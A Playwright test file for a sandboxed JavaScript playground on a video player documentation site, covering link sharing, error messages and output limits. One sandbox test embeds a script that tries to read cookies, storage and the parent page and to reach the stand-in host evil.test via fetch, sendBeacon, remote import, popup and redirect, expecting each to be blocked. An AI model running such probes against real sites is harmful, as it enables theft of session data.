/** The playground runs the reader's code when asked to, in a frame that reaches nothing, and shares it as a link. */
import type {Page} from '@playwright/test';
import {findViolations} from '../axe';
import {encodeCode} from '../../src/components/Playground/link';
import {samples} from '../../src/components/Playground/samples';
import {expect, hydrated, onDesktop, test} from '../test';
import {watchDemoRequests} from './helpers';

const path = 'player/examples/playground/';

async function open(page: Page, hash = '') {
  await page.goto(path + hash);
  await hydrated(page);
  const section = page.getByRole('region', {name: 'Playground'});
  return {
    section,
    frame: section.frameLocator('iframe'),
    output: section.getByRole('log', {name: 'Output'}),
    script: section.getByRole('textbox', {name: 'main.js'}),
    run: section.getByRole('button', {name: 'Run'}),
  };
}

test('runs nothing before a click, then the code as edited', async ({page, problems}) => {
  problems.allow(/Cannot set properties of undefined|Unexpected end of input/);
  const requests = watchDemoRequests(page);
  const {section, frame, output, script, run} = await open(page);
  await expect(section.getByText('Nothing is loaded yet')).toBeVisible();
  expect(requests).toEqual([]);
  await run.click();
  await frame.getByRole('button', {name: 'Play'}).click();
  await expect(frame.getByText(/^[1-9]\d*\.\d s$/)).toBeVisible();
  expect(await findViolations(page, {include: '[data-playground]', grave: true})).toEqual([]);

  await script.fill("console.log('Hello', {a: 1});\nconst n = 1;\nn.x.y = 2;");
  await script.press('Control+Enter');
  await expect(output).toContainText('Hello {"a":1}');
  await expect(output).toContainText(/Error: .*TypeError.*\(line 3\)/);
  // Keys: Tab indents, and leaves the field after Escape.
  await script.fill('if (a) {');
  await script.press('Enter');
  await script.press('Tab');
  await expect(script).toHaveValue('if (a) {\n    ');
  await script.press('Escape');
  await script.press('Tab');
  await expect(script).not.toBeFocused();
  await run.click();
  await expect(output).toContainText('SyntaxError');
  await section.getByRole('button', {name: 'Stop'}).click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('every sample runs without an error', onDesktop, async ({page}) => {
  for (const {id} of samples) {
    const {frame, output, run} = await open(page, `#sample=${id}`);
    await run.click();
    await expect(frame.locator('video').first()).toBeAttached();
    if (id === 'events') await expect(output).toContainText('loadedmetadata');
    await expect(output).not.toContainText('Error:');
    await page.goto('about:blank');
  }
});

test('a link holds the code, and runs only when asked to', onDesktop, async ({page, context}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const {section, script} = await open(page);
  await script.fill("console.log('From a link: ä🎬');");
  await section.getByRole('button', {name: 'Copy a link'}).click();
  await expect(section.getByRole('status').filter({hasText: 'The link is copied.'})).toBeVisible();
  const address = await page.evaluate(() => navigator.clipboard.readText());
  expect(address).toMatch(/#code=1\.[\w-]+$/);

  const requests = watchDemoRequests(page);
  await page.goto('about:blank');
  await page.goto(address);
  await expect(section.getByText('This code came with the link.')).toBeVisible();
  await expect(script).toHaveValue("console.log('From a link: ä🎬');");
  expect(requests).toEqual([]);
  await section.getByRole('button', {name: 'Run'}).click();
  await expect(section.getByRole('log')).toContainText('From a link: ä🎬');
});

test('a link that cannot be read says why, and leaves a sample', onDesktop, async ({page}) => {
  const hash = await encodeCode({html: '', css: '', script: "console.log('From a link');"});
  const {section, script} = await open(page, hash);
  await expect(script).toHaveValue("console.log('From a link');");
  const links: [hash: string, problem: string][] = [
    [hash.slice(0, -8), 'cannot be read: a part of the address is missing'],
    ['#code=', 'cannot be read'],
    ['#code=1.%E4%', 'cannot be read'],
    ['#code=7.abc', 'of another version of the playground'],
    [`#code=1.${'A'.repeat(1_000_000)}`, 'too long for the playground'],
  ];
  for (const [link, problem] of links) {
    // The address changes under the open page.
    await page.evaluate((to) => window.location.replace(to), link);
    await expect(section.getByRole('alert')).toContainText(problem);
    await expect(script).toHaveValue(samples[0]!.code.script);
  }
  await open(page, `#code=1.${'A'.repeat(100_000)}`);
  await expect(section.getByRole('alert')).toContainText('too long for the playground');
});

test('code that is too long for a link says so', onDesktop, async ({page}) => {
  const {section, script} = await open(page);
  // The same number again and again would compress well.
  const long = Array.from({length: 9000}, (_, index) => ((index * 7919) ** 2 % 65_521).toString(36)).join(' ');
  await script.fill(long);
  await section.getByRole('button', {name: 'Copy a link'}).click();
  await expect(section.getByRole('alert')).toContainText('The code is too long for a link');
});

test('code reaches neither the site nor another host', onDesktop, async ({page, problems}) => {
  problems.allow(/Content Security Policy|evil\.test|sandboxed|allow-popups|console error/);
  const reached: string[] = [];
  await page.context().route('https://evil.test/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const script = `
    const attempt = async (name, run) => {
      try { console.log(name, 'got', String(await run())); } catch (error) { console.log(name, 'failed', error.name); }
    };
    await attempt('storage', () => localStorage.length);
    await attempt('cookie', () => document.cookie);
    await attempt('cache', () => caches.keys());
    await attempt('database', () => indexedDB.open('site'));
    await attempt('parent', () => window.parent.document.title);
    await attempt('its storage', () => window.parent.localStorage.length);
    await attempt('top', () => { window.top.location.href = 'https://evil.test/top'; });
    await attempt('popup', () => window.open('https://evil.test/popup'));
    await attempt('fetch', () => fetch('https://evil.test/fetch'));
    await attempt('script', () => import('https://evil.test/script.js'));
    await attempt('beacon', () => navigator.sendBeacon('https://evil.test/beacon'));
    await attempt('eval', () => eval('1 + 1'));
    console.log('done');
    location.href = 'https://evil.test/away';
  `;
  const {output, run} = await open(
    page,
    await encodeCode({html: '<img src="https://evil.test/a.png">', css: '', script}),
  );
  await run.click();
  await expect(output).toContainText('done');
  for (const name of [
    'storage',
    'cookie',
    'cache',
    'database',
    'parent',
    'its storage',
    'top',
    'fetch',
    'script',
    'eval',
  ]) {
    await expect(output).toContainText(`${name} failed`);
  }
  await expect(output).toContainText('popup got null');
  expect(reached).toEqual([]);
  await expect(page).toHaveURL(new RegExp(path));
});

test('a loop that prints leaves the page usable, with the last lines', onDesktop, async ({page}) => {
  const {section, output, script, run} = await open(page);
  await script.fill('for (let n = 1; n <= 20000; n++) console.log(`line ${n}`);');
  await run.click();
  await expect(output).toContainText('line 20000');
  await expect(output.getByRole('paragraph')).toHaveCount(100);
  await section.getByRole('button', {name: 'Stop'}).click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('says what cannot be imported, and which host is out of reach', onDesktop, async ({page, problems}) => {
  problems.allow(/Content Security Policy/);
  const {output, script, run} = await open(page);
  await script.fill("import {Player} from 'theoplayer';");
  await run.click();
  await expect(output).toContainText('There is no "theoplayer" here. Import from theoplayer/chromeless or');
  await script.fill("fetch('https://example.test/').catch(() => undefined);");
  await run.click();
  await expect(output).toContainText('Blocked: https://example.test');
});
